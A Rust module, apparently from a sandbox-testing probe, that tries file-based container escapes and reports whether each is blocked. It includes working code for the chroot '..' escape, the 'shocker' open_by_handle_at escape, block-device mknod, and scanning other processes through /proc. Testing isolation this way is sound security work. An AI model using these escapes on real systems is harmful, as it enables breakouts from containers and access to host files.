//! Attempts on files: reading and writing outside the pod, device nodes, chroot and
//! file-handle escapes, other processes through /proc.

use std::ffi::CString;
use std::io::{Read, Write};

use crate::outcome::{errno, from_ret, Outcome};

/// Looks through /proc for a process (not this probe) whose command line contains `needle`.
pub fn find_proc(needle: &str) -> Outcome {
    let me = std::process::id().to_string();
    let Ok(rd) = std::fs::read_dir("/proc") else {
        return Outcome::Refused("cannot list /proc".into());
    };
    let mut seen = 0;
    for e in rd.flatten() {
        let name = e.file_name().to_string_lossy().into_owned();
        if !name.bytes().all(|b| b.is_ascii_digit()) || name == me {
            continue;
        }
        seen += 1;
        let Ok(raw) = std::fs::read(e.path().join("cmdline")) else {
            continue;
        };
        let cmd = String::from_utf8_lossy(&raw).replace('\0', " ");
        if cmd.contains(needle) && !cmd.contains("cove-probe") {
            return Outcome::Succeeded(format!("pid {name}: {cmd}"));
        }
    }
    Outcome::Refused(format!("no process matching {needle:?} among {seen}"))
}

/// Reads `path`; succeeds if it gave at least one byte.
pub fn read(path: &str) -> Outcome {
    let mut buf = [0u8; 4096];
    match std::fs::File::open(path).and_then(|mut f| f.read(&mut buf)) {
        Ok(0) => Outcome::Refused(format!("{path} reads as empty")),
        Ok(n) => Outcome::Succeeded(format!(
            "read {n} bytes of {path}: {:?}",
            String::from_utf8_lossy(&buf[..n.min(80)])
        )),
        Err(e) => Outcome::Refused(format!("{path}: {e}")),
    }
}

/// Writes `data` to `path` (created if missing).
pub fn write(path: &str, data: &[u8]) -> Outcome {
    let r = std::fs::OpenOptions::new()
        .write(true)
        .create(true)
        .truncate(true)
        .open(path)
        .and_then(|mut f| f.write_all(data));
    match r {
        Ok(()) => Outcome::Succeeded(format!("wrote {} bytes to {path}", data.len())),
        Err(e) => Outcome::Refused(format!("{path}: {e}")),
    }
}

/// Writes back what `path` holds: a harmless write if it ever got through (sysctls, cgroup
/// limits, /sys attributes).
pub fn write_same(path: &str) -> Outcome {
    let cur = match std::fs::read(path) {
        Ok(c) if !c.is_empty() => c,
        Ok(_) => b"0\n".to_vec(),
        Err(e) => return Outcome::Refused(format!("reading {path}: {e}")),
    };
    let r = std::fs::OpenOptions::new()
        .write(true)
        .open(path)
        .and_then(|mut f| f.write_all(&cur));
    match r {
        Ok(()) => Outcome::Succeeded(format!("wrote {path}")),
        Err(e) => Outcome::Refused(format!("{path}: {e}")),
    }
}

fn cpath(path: &str) -> Result<CString, Outcome> {
    CString::new(path).map_err(|_| Outcome::Usage(format!("bad path {path:?}")))
}

/// mknod of a block device (8:0, the first SCSI disk) at `path`.
pub fn mknod(path: &str) -> Outcome {
    let p = match cpath(path) {
        Ok(p) => p,
        Err(o) => return o,
    };
    // SAFETY: a NUL-terminated path and integer mode/dev.
    let r = unsafe { libc::mknod(p.as_ptr(), libc::S_IFBLK | 0o600, libc::makedev(8, 0)) };
    from_ret(&format!("mknod {path} b 8 0"), r as i64)
}

/// mkfifo at `path`: the allowed control of [`mknod`].
pub fn mkfifo(path: &str) -> Outcome {
    let p = match cpath(path) {
        Ok(p) => p,
        Err(o) => return o,
    };
    // SAFETY: a NUL-terminated path.
    let r = unsafe { libc::mkfifo(p.as_ptr(), 0o600) };
    from_ret(&format!("mkfifo {path}"), r as i64)
}

/// The classic chroot escape (chroot into a subdir, walk `..` past it, chroot there),
/// then reads `path`, a file that exists only on the host.
pub fn chroot_escape(path: &str) -> Outcome {
    let jail = "/tmp/cove-probe-jail";
    let _ = std::fs::create_dir_all(jail);
    let (Ok(j), Ok(dot), Ok(up)) = (CString::new(jail), CString::new("."), CString::new(".."))
    else {
        return Outcome::Usage("bad path".into());
    };
    // SAFETY: chroot/chdir with NUL-terminated paths; this process only.
    unsafe {
        if libc::chroot(j.as_ptr()) != 0 {
            return Outcome::Refused(format!("chroot {jail}: {}", errno()));
        }
        for _ in 0..64 {
            libc::chdir(up.as_ptr());
        }
        if libc::chroot(dot.as_ptr()) != 0 {
            return Outcome::Refused(format!("chroot .: {}", errno()));
        }
    }
    read(path)
}

/// open_by_handle_at on the root inode of the pod's root mount (the "shocker" escape:
/// with CAP_DAC_READ_SEARCH, handles reach any inode of the host filesystem).
pub fn open_by_handle() -> Outcome {
    // struct file_handle { u32 handle_bytes; i32 handle_type; u8 f_handle[8] }:
    // FILEID_INO32_GEN (1) with inode 2 (an ext4 root), generation 0.
    let mut h = [0u32; 4];
    h[0] = 8;
    h[1] = 1;
    h[2] = 2;
    // SAFETY: open(2) of a NUL-terminated path.
    let mfd = unsafe { libc::open(c"/".as_ptr(), libc::O_RDONLY | libc::O_DIRECTORY) };
    if mfd < 0 {
        return Outcome::Usage(format!("open /: {}", errno()));
    }
    // SAFETY: a file_handle-shaped buffer that outlives the call.
    let r = unsafe { libc::syscall(libc::SYS_open_by_handle_at, mfd, h.as_ptr(), libc::O_RDONLY) };
    if r < 0 && errno().raw_os_error() != Some(libc::EPERM) {
        // Past the permission check (e.g. ESTALE): the escape is possible in principle.
        return Outcome::Succeeded(format!(
            "open_by_handle_at got past the permission check: {}",
            errno()
        ));
    }
    from_ret("open_by_handle_at", r)
}
